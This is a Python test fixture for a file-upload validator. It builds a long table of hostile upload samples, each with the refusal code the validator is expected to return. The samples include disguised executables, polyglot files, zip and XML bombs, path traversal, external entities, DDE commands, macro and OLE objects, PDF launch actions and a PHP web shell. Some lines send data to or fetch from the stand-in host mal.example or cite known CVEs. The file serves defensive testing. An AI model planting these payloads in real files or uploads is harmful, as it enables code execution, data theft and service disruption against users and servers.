"""Files that somebody could send to do harm, each built here: (name, bytes, code of the refusal).

Those that are made harmless instead of being refused are in `harmless`.
"""

# A case is a line: the table is read as one.
# ruff: noqa: E501

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.core.uploads import builders as b
from tests.core.uploads.builders import (
    archive,
    docx,
    manifest,
    odf,
    pdf,
    pdf_stream,
    picture,
    pptx,
    relations,
    svg,
    xlsx,
)
from tests.core.uploads.tricks import (
    EXE,
    LAUGHS,
    OLE,
    PAGE,
    RELS,
    SCRIPT,
    XXE,
    action,
    annotation,
    bomb,
    cell,
    deep_xml,
    encrypted_flag,
    field,
    gap,
    hidden_behind_incremental,
    in_object_stream,
    incremental,
    link_part,
    lying_bomb,
    lzma,
    many_elements,
    object_stream_bomb,
    odt_part,
    overlapping,
    part,
    twice,
    zip_after,
)


@dataclass(frozen=True)
class Case:
    """`title` says the attack; `build` makes the bytes; `code` is a key of `refusals.SENTENCES`."""

    title: str
    name: str
    build: Callable[[], bytes]
    code: str


def _c(title: str, name: str, build: bytes | Callable[[], bytes], code: str) -> Case:
    return Case(title, name, (lambda: build) if isinstance(build, bytes) else build, code)


_NAMES = [
    _c("an executable", "facture.exe", EXE, "program"),
    _c("an executable that ends in .exe after .pdf", "facture.pdf.exe", EXE, "program"),
    _c("a script for Windows", "cours.js", b"WScript.Shell", "program"),
    _c("a batch file", "cours.bat", b"@echo off", "program"),
    _c("a shortcut", "cours.lnk", b"L\0\0\0", "program"),
    _c("a program behind letters that turn the direction", "cours\u202efdp.exe", EXE, "program"),
    _c("a program behind full-width letters", "cours．ｅｘｅ", EXE, "program"),
    _c("a program behind a final dot", "cours.exe.", EXE, "program"),
    _c("a program behind final spaces", "cours.exe   ", EXE, "program"),
    _c("a program behind an invisible character", "cours.e\u200bxe", EXE, "program"),
    _c("a hidden stream of NTFS", "cours.php::$DATA", b"<?php", "type"),
    _c("a name cut by a null", "cours.php\0.pdf", b"<?php system(1)", "mismatch"),
    _c("a PHP script", "cours.php", b"<?php system(1)", "program"),
    _c("a page", "cours.html", PAGE, "web"),
    _c("a page with a capital extension", "COURS.HTM", PAGE, "web"),
    _c("a page in XHTML", "cours.xhtml", PAGE, "web"),
    _c("a page with its pictures", "cours.mht", b"MIME-Version: 1.0", "web"),
    _c("a drawing with a script", "dessin.svg", svg("<script>alert(1)</script>"), "drawing"),
    _c("a packed drawing", "dessin.svgz", zlib.compress(svg()), "drawing"),
    _c("an archive", "cours.zip", archive({"a.txt": "a"}), "archive"),
    _c("an archive of another kind", "cours.rar", b"Rar!\x1a\x07\0", "archive"),
    _c("an old Word file", "cours.doc", OLE, "old_office"),
    _c("a rich text with an object", "cours.rtf", b"{\\rtf1{\\object\\objdata d0cf11e0}}", "old_office"),
    _c("a Word file with macros", "cours.docm", docx({"word/vbaProject.bin": OLE}), "macro_format"),
    _c("a workbook with macros", "cours.xlsm", xlsx({"xl/vbaProject.bin": OLE}), "macro_format"),
    _c("a LibreOffice template", "cours.ott", odf(), "macro_format"),
    _c("an animated picture", "dessin.gif", b"GIF89a", "picture_format"),
    _c("PostScript", "dessin.eps", b"%!PS-Adobe", "picture_format"),
    _c("no extension", "cours", b"bonjour", "type"),
    _c("nothing but an extension", ".htaccess", b"AddType", "type"),
    _c("an extension that nobody knows", "cours.xyz", b"bonjour", "type"),
    _c("a disk image", "cours.iso", b"\0" * 100, "program"),
    _c("an empty file", "cours.pdf", b"", "empty"),
    _c("a text that is too large", "cours.txt", lambda: b"a" * 1_000_001, "too_big"),
]

_DISGUISED = [
    _c("a page that says it is a PDF", "cours.pdf", PAGE, "mismatch"),
    _c("a program that says it is a PDF", "cours.pdf", EXE, "mismatch"),
    _c("a program that says it is a picture", "photo.jpg", EXE, "mismatch"),
    _c("a page that says it is a picture", "photo.png", PAGE, "mismatch"),
    _c("a drawing that says it is a picture", "photo.png", svg("<script>alert(1)</script>"), "mismatch"),
    _c("a picture that says it is another", "photo.jpg", picture("PNG"), "mismatch"),
    _c("a GIF that says it is a PNG", "photo.png", lambda: picture("GIF", mode="P"), "mismatch"),
    _c("a PDF that says it is a picture", "photo.png", pdf(), "mismatch"),
    _c("a PDF that says it is a text", "cours.txt", pdf(), "mismatch"),
    _c("an archive that says it is a text", "cours.txt", archive({"a.txt": "a"}), "mismatch"),
    _c("a program that says it is a text", "cours.txt", EXE, "mismatch"),
    _c("an archive that says it is a Word file", "cours.docx", archive({"virus.exe": EXE}), "mismatch"),
    _c("an old Word file that says it is a new one", "cours.docx", OLE, "mismatch"),
    _c("a Word file that says it is a workbook", "cours.xlsx", docx(), "mismatch"),
    _c("a LibreOffice text that says it is a spreadsheet", "cours.ods", odf(), "mismatch"),
    _c("a Word file that says it is LibreOffice's", "cours.odt", docx(), "mismatch"),
    _c("a Java archive that says it is a text document", "cours.odt", archive({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}), "mismatch"),
    _c("a template that says it is a document", "cours.docx", lambda: docx(main=b.WORD_MAIN.replace("document.main", "template.main")), "mismatch"),
    _c("a picture that says it is a sound", "cours.mp3", picture("PNG"), "mismatch"),
    _c("a page that says it is a sound", "cours.mp3", b"ID3\x03\0\0\0\0\0\0" + SCRIPT * 200, "sound"),
    _c("rich text that says it is a text", "cours.txt", b"{\\rtf1{\\object}}", "mismatch"),
]  # fmt: skip

_TWO_IN_ONE = [
    _c("a PDF with a page before it", "cours.pdf", PAGE + pdf(), "mismatch"),
    _c("a PDF with a page in its first line", "cours.pdf", lambda: pdf(header="%PDF-1.7\n%<html>" + SCRIPT.decode() + "\n"), "two_in_one"),
    _c("a PDF with a page after its end", "cours.pdf", pdf() + PAGE, "two_in_one"),
    _c("a PDF with an archive after its end", "cours.pdf", lambda: zip_after(pdf()), "two_in_one"),
    _c("a PDF that is an archive too, closed by a second end", "cours.pdf", lambda: zip_after(pdf(), b"\n%%EOF\n"), "two_in_one"),
    _c("a Word file with a program before it", "cours.docx", EXE + docx(), "mismatch"),
    _c("a Word file with a PDF in its first bytes", "cours.docx", lambda: archive({"[Content_Types].xml": pdf()}, stored=["[Content_Types].xml"]), "two_in_one"),
    _c("a LibreOffice text with a page in its first bytes", "cours.odt", lambda: archive({"mimetype": PAGE}, stored=["mimetype"]), "two_in_one"),
    _c("a Word file with a program after it", "cours.docx", docx() + EXE, "two_in_one"),
    _c("a Word file whose comment is a page", "cours.docx", lambda: zip_after(docx(), PAGE), "two_in_one"),
    _c("a Word file with a program between two parts", "cours.docx", gap, "two_in_one"),
    _c("a text with an archive at its end", "cours.txt", lambda: zip_after(b"bonjour\n"), "two_in_one"),
]  # fmt: skip

_ARCHIVES = [
    _c("a bomb of 300 MB", "cours.docx", bomb, "bomb"),
    _c("a bomb under the total", "cours.docx", lambda: bomb(60_000_000), "bomb"),
    _c("a bomb that lies about its size", "cours.docx", lying_bomb, "damaged"),
    _c("parts that share their bytes", "cours.docx", overlapping, "bomb"),
    _c("ten thousand parts", "cours.docx", lambda: docx({f"word/{n}.xml": "<a/>" for n in range(10_000)}), "bomb"),
    _c("a bomb inside a workbook inside slides", "cours.pptx", lambda: pptx({"ppt/embeddings/w.xlsx": bomb(60_000_000)}), "bomb"),
    _c("a workbook inside a workbook inside slides", "cours.pptx", lambda: pptx({"ppt/embeddings/w.xlsx": xlsx({"xl/embeddings/w.xlsx": xlsx()})}), "object"),
    _c("a path that climbs", "cours.docx", part("../../../etc/cron.d/x.xml", "<a/>"), "unsafe_part"),
    _c("a path that climbs in the middle", "cours.odt", odt_part("Pictures/../../x.png", b"x"), "unsafe_part"),
    _c("a path from the root", "cours.docx", part("/etc/passwd.xml", "<a/>"), "unsafe_part"),
    _c("a path of Windows", "cours.docx", part("C:\\Windows\\x.xml", "<a/>"), "unsafe_part"),
    _c("a link to a file of the server", "cours.docx", link_part, "unsafe_part"),
    _c("two parts of one name", "cours.docx", twice, "unsafe_part"),
    _c("a part behind a password", "cours.docx", encrypted_flag, "locked"),
    _c("an unusual compression", "cours.docx", lzma, "unsafe_part"),
    _c("a program among the parts", "cours.docx", part("word/media/virus.exe", EXE), "unsafe_part"),
    _c("a program that says it is a picture, inside", "cours.docx", part("word/media/i.png", EXE), "unsafe_part"),
    _c("a program that says it is a drawing of Windows, inside", "cours.docx", part("word/media/i.emf", EXE), "unsafe_part"),
    _c("a page that says it is a picture, inside", "cours.odt", odt_part("Pictures/i.svm", PAGE), "unsafe_part"),
    _c("half of a Word file", "cours.docx", docx()[: len(docx()) // 2], "damaged"),
    _c("a part whose checksum is wrong", "cours.odt", odf().replace(b"application/vnd.oasis.opendocument.text", b"application/vnd.oasis.opendocument.texT", 1), "damaged"),
    _c("XML that never closes", "cours.docx", part("word/x.xml", "<a><b>"), "damaged"),
    _c("XML in an encoding that hides", "cours.docx", part("word/x.xml", '<?xml version="1.0" encoding="UTF-7"?><a/>'), "damaged"),
    _c("XML fifty thousand deep", "cours.docx", deep_xml, "bomb"),
    _c("more XML elements than a document has", "cours.docx", many_elements, "bomb"),
]  # fmt: skip

_XML = [
    _c("an external entity in a Word file", "cours.docx", part("word/document.xml", XXE), "entity"),
    _c("an external entity in a relationship", "cours.docx", part(RELS, XXE), "entity"),
    _c("an external entity in the properties", "cours.pptx", lambda: pptx({"docProps/core.xml": XXE}), "entity"),
    _c("an external entity in a spreadsheet's strings", "cours.xlsx", lambda: xlsx({"xl/sharedStrings.xml": XXE}), "entity"),
    _c("an external entity in LibreOffice's text", "cours.odt", odt_part("content.xml", XXE), "entity"),
    _c("an external entity in the list of parts", "cours.odt", odt_part("META-INF/manifest.xml", XXE), "entity"),
    _c("an external document type", "cours.odt", odt_part("styles.xml", '<!DOCTYPE x SYSTEM "http://mal.example/x.dtd"><x/>'), "entity"),
    _c("a billion laughs", "cours.docx", part("word/document.xml", LAUGHS), "entity"),
    _c("a billion laughs in a drawing inside", "cours.docx", part("word/media/i.svg", LAUGHS), "entity"),
    _c("a parameter entity", "cours.docx", part("word/x.xml", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://mal.example/"> %p;]><x/>'), "entity"),
    _c("an XInclude style sheet", "cours.docx", part("word/x.xml", '<?xml-stylesheet href="http://mal.example/x.xsl"?><x/>'), "entity"),
    _c("a script in a drawing inside", "cours.docx", part("word/media/i.svg", svg("<script>1</script>")), "active_drawing"),
]  # fmt: skip

_WORD = [
    _c("macros under their usual name", "cours.docx", part("word/vbaProject.bin", OLE), "macro"),
    _c("macros that a relationship names otherwise", "cours.docx", part(RELS, relations(("vbaProject", "media/image.png", False))), "macro"),
    _c("macros in the list of types", "cours.docx", lambda: docx(types='<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.vbaProject"/>'), "macro"),
    _c("the main part of a document with macros", "cours.docx", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    _c("a template elsewhere", "cours.docx", part("word/_rels/settings.xml.rels", relations(("attachedTemplate", "http://mal.example/t.dotm", True))), "template"),
    _c("a template on a shared disk", "cours.docx", part("word/_rels/settings.xml.rels", relations(("attachedTemplate", "file://mal.example/t.dotm", True))), "template"),
    _c("an OLE object", "cours.docx", part("word/embeddings/oleObject1.bin", OLE), "object"),
    _c("an OLE object under another name", "cours.docx", part("word/embeddings/package.bin", OLE), "object"),
    _c("an OLE object elsewhere (CVE-2021-40444)", "cours.docx", part(RELS, relations(("oleObject", "mhtml:http://mal.example/x!x", True))), "object"),
    _c("an OLE element", "cours.docx", lambda: docx(body='<w:p><w:object><o:OLEObject xmlns:o="urn:o" ProgID="Package"/></w:object></w:p>'), "object"),
    _c("a page as a piece of the document", "cours.docx", part(RELS, relations(("aFChunk", "x.html", False))), "object"),
    _c("a document inside, elsewhere", "cours.docx", part(RELS, relations(("subDocument", "http://mal.example/x.docx", True))), "object"),
    _c("a frame elsewhere", "cours.docx", part("word/_rels/webSettings.xml.rels", relations(("frame", "http://mal.example/", True))), "object"),
    _c("an ActiveX control", "cours.docx", part("word/activeX/activeX1.xml", "<ocx/>"), "control"),
    _c("an add-in that opens by itself", "cours.docx", part("word/webextensions/webextension1.xml", "<a/>"), "control"),
    _c("a picture elsewhere, which says who opens", "cours.docx", part(RELS, relations(("image", "http://mal.example/pixel.png", True))), "outside"),
    _c("a picture on a shared disk", "cours.docx", part(RELS, relations(("image", "\\\\mal.example\\x.png", True))), "outside"),
    _c("a link to a program", "cours.docx", part(RELS, relations(("hyperlink", "file:///C:/Windows/System32/cmd.exe", True))), "link"),
    _c("a link with code", "cours.docx", part(RELS, relations(("hyperlink", "javascript:alert(1)", True))), "link"),
    _c("a link for a Windows tool (CVE-2022-30190)", "cours.docx", part(RELS, relations(("hyperlink", "ms-msdt:/id PCWDiagnostic", True))), "link"),
    _c("a field that starts a program", "cours.docx", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "outside"),
    _c("the same, cut in pieces", "cours.docx", field("DDE", "AUTO ", "cmd.exe"), "outside"),
    _c("the same, as a simple field", "cours.docx", lambda: docx(body='<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'), "outside"),
    _c("the same, as numbers", "cours.docx", field("QUOTE 68 68 69 65"), "outside"),
    _c("a field that reads another file", "cours.docx", field('INCLUDETEXT "C:\\secret.txt"'), "outside"),
    _c("a field that fetches a picture", "cours.docx", field('INCLUDEPICTURE "http://mal.example/x"'), "outside"),
    _c("a button for a macro", "cours.docx", field("MACROBUTTON Auto Cliquez"), "outside"),
    _c("a mailing that reads a base", "cours.docx", part("word/settings.xml", f'<w:settings xmlns:w="{b.W}"><w:mailMerge/></w:settings>'), "outside"),
    _c("a ribbon of its own", "cours.docx", part("customUI/customUI14.xml", '<customUI onLoad="x"/>'), "macro"),
]  # fmt: skip

_EXCEL_AND_SLIDES = [
    _c("a cell that starts a program", "t.xlsx", cell("cmd|'/c calc'!A0"), "formula"),
    _c("a cell that sends data", "t.xlsx", cell('WEBSERVICE("http://mal.example/"&amp;A1)'), "formula"),
    _c("a cell that calls a library", "t.xlsx", cell('CALL("Kernel32","WinExec","JCJ","calc",0)'), "formula"),
    _c("a sheet of macros", "t.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    _c("a link to another workbook", "t.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}), "outside"),
    _c("a connection to a base", "t.xlsx", lambda: xlsx({"xl/connections.xml": "<a/>"}), "outside"),
    _c("a question to the web", "t.xlsx", lambda: xlsx({"xl/queryTables/q1.xml": "<a/>"}), "outside"),
    _c("a DDE link", "t.xlsx", lambda: xlsx({"xl/x.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), "outside"),
    _c("a name that runs", "t.xlsx", lambda: xlsx({"xl/workbook.xml": "<workbook><definedName>EXEC(&quot;calc&quot;)</definedName></workbook>"}), "formula"),
    _c("a binary sheet", "t.xlsx", lambda: xlsx({"xl/worksheets/sheet1.bin": b"\x83\0"}), "unsafe_part"),
    _c("a slide that starts a program", "d.pptx", lambda: pptx(slide='<a:hlinkClick action="ppaction://program"/>'), "control"),
    _c("a slide that runs a macro when flown over", "d.pptx", lambda: pptx(slide='<a:hlinkHover action="ppaction://macro?name=x"/>'), "control"),
    _c("an OLE object in a slide", "d.pptx", lambda: pptx({"ppt/embeddings/oleObject1.bin": OLE}), "object"),
    _c("a Word file inside a slide", "d.pptx", lambda: pptx({"ppt/embeddings/d.docx": docx()}), "object"),
    _c("a film elsewhere", "d.pptx", lambda: pptx({"ppt/slides/_rels/slide1.xml.rels": relations(("video", "http://mal.example/f.mp4", True))}), "outside"),
]  # fmt: skip

_EVENT = '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners>'
_LIBREOFFICE = [
    _c("Basic macros", "cours.odt", odt_part("Basic/Standard/Module1.xml", "<a/>"), "macro"),
    _c("Python macros", "cours.odt", odt_part("Scripts/python/x.py", "import os"), "macro"),
    _c("a dialogue", "cours.ods", lambda: odf({"Dialogs/x.xml": "<a/>"}, kind=b.ODS), "macro"),
    _c("a macro when it opens", "cours.odt", lambda: odf(before=f"<office:scripts>{_EVENT}</office:scripts>"), "macro"),
    _c("a macro when a picture is flown over (CVE-2018-16858)", "cours.odt", lambda: odf(body=f"<draw:frame>{_EVENT}</draw:frame>"), "macro"),
    _c("a script in the text", "cours.odt", lambda: odf(body='<text:p><text:script script:language="JavaScript">alert(1)</text:script></text:p>'), "macro"),
    _c("a script elsewhere", "cours.odt", lambda: odf(before='<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-linked xlink:href="http://mal.example/"/></ooo:libraries></office:script></office:scripts>'), "macro"),
    _c("an OLE object", "cours.odt", lambda: odf(body='<draw:object-ole xlink:href="./Object 1"/>'), "object"),
    _c("an OLE object among the parts", "cours.odt", odt_part("Object 1", OLE), "object"),
    _c("an OLE object in the list of parts", "cours.odt", odt_part("META-INF/manifest.xml", manifest({"Object 1/": "application/vnd.sun.star.oleobject"})), "object"),
    _c("a plug-in", "cours.odp", lambda: odf(kind=b.ODP, body='<draw:plugin xlink:href="x.swf"/>'), "object"),
    _c("a Java applet", "cours.odt", lambda: odf(body='<draw:applet draw:code="A.class"/>'), "object"),
    _c("a frame elsewhere (CVE-2023-2255)", "cours.odt", lambda: odf(body='<draw:floating-frame xlink:href="http://mal.example/"/>'), "object"),
    _c("a picture elsewhere", "cours.odt", lambda: odf(body='<draw:image xlink:href="http://mal.example/pixel.png"/>'), "outside"),
    _c("a picture on the reader's disk", "cours.odt", lambda: odf(body='<draw:image xlink:href="file:///etc/passwd"/>'), "outside"),
    _c("a picture on a shared disk (CVE-2018-10583)", "cours.odt", lambda: odf(body='<draw:image xlink:href="file://mal.example/x.png"/>'), "outside"),
    _c("a section of another file", "cours.odt", lambda: odf(body='<text:section><text:section-source xlink:href="../secret.odt"/></text:section>'), "outside"),
    _c("a DDE link", "cours.odt", lambda: odf(body='<office:dde-source office:dde-application="soffice"/>'), "outside"),
    _c("a DDE formula", "t.ods", lambda: odf(kind=b.ODS, body='<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>'), "formula"),
    _c("a formula that sends data", "t.ods", lambda: odf(kind=b.ODS, body='<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://mal.example/&quot;)"/>'), "formula"),
    _c("a table of another file", "t.ods", lambda: odf(kind=b.ODS, body='<table:table-source xlink:href="http://mal.example/x.ods"/>'), "outside"),
    _c("a link with code", "cours.odt", lambda: odf(body='<text:p><text:a xlink:href="javascript:alert(1)">x</text:a></text:p>'), "link"),
    _c("a link that runs a macro", "cours.odt", lambda: odf(body='<text:p><text:a xlink:href="vnd.sun.star.script:x?language=Basic">x</text:a></text:p>'), "link"),
    _c("a link to a program", "cours.odt", lambda: odf(body='<text:p><text:a xlink:href="file:///C:/Windows/System32/cmd.exe">x</text:a></text:p>'), "link"),
    _c("a link for the office (CVE-2022-3140)", "cours.odt", lambda: odf(body='<text:p><text:a xlink:href="vnd.libreoffice.command:x">x</text:a></text:p>'), "link"),
    _c("a slide that runs a program", "d.odp", lambda: odf(kind=b.ODP, body='<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>'), "control"),
    _c("a form on a base", "cours.odt", lambda: odf(body='<form:form form:datasource="jdbc:x"/>'), "outside"),
    _c("a template elsewhere", "cours.odt", odt_part("meta.xml", f'<office:document-meta {b.SPACES}><office:meta><meta:template xlink:href="http://mal.example/t.ott"/></office:meta></office:document-meta>'), "template"),
    _c("a file behind a password", "cours.odt", odt_part("META-INF/manifest.xml", manifest(inside="<manifest:encryption-data/>")), "locked"),
    _c("a program among the parts", "cours.odt", odt_part("virus.exe", EXE), "unsafe_part"),
]  # fmt: skip

_PDF = [
    _c("code when it opens", "cours.pdf", action("/S/JavaScript/JS(app.alert(1))"), "pdf_code"),
    _c("code under escaped names", "cours.pdf", action("/S/J#61vaScript/J#53(app.alert(1))"), "pdf_code"),
    _c("code in the list of names", "cours.pdf", lambda: pdf("<</Names[(a)5 0 R]>>", "<</S/JavaScript/JS(1)>>", catalogue="/Names<</JavaScript 4 0 R>>"), "pdf_code"),
    _c("code in a compressed stream of objects", "cours.pdf", lambda: in_object_stream("<</S/JavaScript/JS(app.alert(1))>>"), "pdf_code"),
    _c("code added by a later version", "cours.pdf", incremental, "pdf_code"),
    _c("code behind a later, clean version", "cours.pdf", hidden_behind_incremental, "pdf_code"),
    _c("code in a form", "cours.pdf", lambda: pdf("<</XFA(x)>>", catalogue="/AcroForm 4 0 R"), "pdf_code"),
    _c("code when a page opens", "cours.pdf", lambda: pdf("<</O<</S/Named/N/Print>>>>", catalogue="/AA 4 0 R"), "pdf_action"),
    _c("an order when it opens", "cours.pdf", action("/S/URI/URI(http://mal.example/)"), "pdf_action"),
    _c("a program", "cours.pdf", action("/S/Launch/F(cmd.exe)"), "pdf_action"),
    _c("a program, later in a chain", "cours.pdf", action("/S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(cmd.exe)>>"), "pdf_action"),
    _c("a program behind a link", "cours.pdf", annotation("/Subtype/Link/A<</S/Launch/F(cmd.exe)>>"), "pdf_action"),
    _c("a form sent elsewhere", "cours.pdf", annotation("/Subtype/Widget/A<</S/SubmitForm/F(http://mal.example/)>>"), "pdf_action"),
    _c("data read from elsewhere", "cours.pdf", annotation("/A<</S/ImportData/F(x)>>"), "pdf_action"),
    _c("a file inside", "cours.pdf", lambda: pdf("<</Type/Filespec/EF<</F 5 0 R>>>>", pdf_stream(EXE, "/Type/EmbeddedFile")), "pdf_file"),
    _c("a file pinned to a page", "cours.pdf", annotation("/Subtype/FileAttachment"), "pdf_file"),
    _c("a PDF inside that opens", "cours.pdf", action("/S/GoToE/D(x)"), "pdf_file"),
    _c("a film", "cours.pdf", annotation("/Subtype/RichMedia"), "pdf_media"),
    _c("a sound", "cours.pdf", annotation("/A<</S/Rendition>>"), "pdf_media"),
    _c("a link with code", "cours.pdf", annotation("/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>"), "link"),
    _c("a link to a shared disk", "cours.pdf", annotation("/Subtype/Link/A<</S/URI/URI(file://mal.example/x)>>"), "link"),
    _c("a link to another file", "cours.pdf", annotation("/Subtype/Link/A<</S/GoToR/F(\\\\\\\\mal.example\\\\x.pdf)>>"), "link"),
    _c("a PDF behind a password", "cours.pdf", lambda: pdf("<</Filter/Standard/V 1/R 2/O(a)/U(b)/P -1>>", trailer="/Encrypt 4 0 R/ID[(a)(a)]"), "locked"),
    _c("half of a PDF", "cours.pdf", pdf()[:120], "damaged"),
    _c("no page", "cours.pdf", b"%PDF-1.7\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF", "damaged"),
    _c("objects that point at each other", "cours.pdf", lambda: pdf("5 0 R", "4 0 R"), "damaged"),
    _c("an array eighty deep", "cours.pdf", lambda: pdf("[" * 80 + "]" * 80), "bomb"),
    _c("an array ten thousand deep", "cours.pdf", lambda: pdf("[" * 20_000 + "]" * 20_000), "damaged"),
    _c("a hundred thousand objects", "cours.pdf", lambda: pdf(*["null"] * 100_000), "bomb"),
    _c("a stream of objects that inflates to 60 MB", "cours.pdf", object_stream_bomb, "damaged"),
]  # fmt: skip

_PICTURES = [
    _c("four thousand million points", "photo.png", lambda: b.png_header(65_000, 65_000), "pixels"),
    _c("forty million points in a PNG", "photo.png", lambda: b.png_header(8_000, 5_000), "pixels"),
    _c("a WebP that says it is immense", "photo.webp", lambda: b"RIFF" + struct.pack("<I", 22) + b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + b"\xff\xff\xff" * 2, "pixels"),
    _c("an animated PNG", "photo.png", lambda: picture("PNG", save_all=True, append_images=[b.Image.new("RGB", (64, 48), "red")]), "animated"),
    _c("an animated WebP", "photo.webp", lambda: picture("WEBP", save_all=True, append_images=[b.Image.new("RGB", (64, 48), "red")]), "animated"),
    _c("half of a photo", "photo.jpg", lambda: picture("JPEG", (400, 400))[:2000], "damaged"),
    _c("half of a PNG", "photo.png", lambda: picture("PNG", (400, 400))[:500], "damaged"),
    _c("a PNG whose checksum is wrong", "photo.png", lambda: picture("PNG").replace(b"IDAT", b"IDAX", 1), "damaged"),
]  # fmt: skip

_TEXTS = [
    _c("a page in a text", "cours.txt", PAGE, "web_text"),
    _c("a script in the middle of a text", "cours.txt", b"Bonjour\n" * 200 + SCRIPT, "web_text"),
    _c("a picture that runs in Markdown", "cours.md", b"# Titre\n\n<img src=x onerror=alert(1)>", "web_text"),
    _c("a link with code in Markdown", "cours.md", b"[lire](javascript:alert(1))", "web_text"),
    _c("a page in UTF-16", "cours.txt", b"\xff\xfe" + PAGE.decode().encode("utf-16-le"), "web_text"),
    _c("a drawing in a text", "cours.txt", svg("<script>1</script>"), "web_text"),
    _c("XML in a text", "cours.txt", XXE.encode(), "web_text"),
    _c("a PHP script in a text", "cours.txt", b"<?php system($_GET[0]); ?>", "web_text"),
    _c("a text with nulls", "cours.txt", b"bonjour\0\0\0monde", "binary"),
    _c("terminal commands in a text", "cours.txt", b"bonjour \x1b]0;x\x07", "binary"),
    _c("a page in a table", "t.csv", b"nom;note\n<script>alert(1)</script>;3", "web_text"),
    _c("a table with a cell without end", "t.csv", lambda: b'nom;note\n"' + b"a" * 200_000, "table"),
    _c("a table of a hundred thousand rows", "t.csv", lambda: b"a;b\n" * 100_000, "table"),
]

CASES = [
    *_NAMES, *_DISGUISED, *_TWO_IN_ONE, *_ARCHIVES, *_XML, *_WORD, *_EXCEL_AND_SLIDES, *_LIBREOFFICE, *_PDF, *_PICTURES, *_TEXTS,
]  # fmt: skip
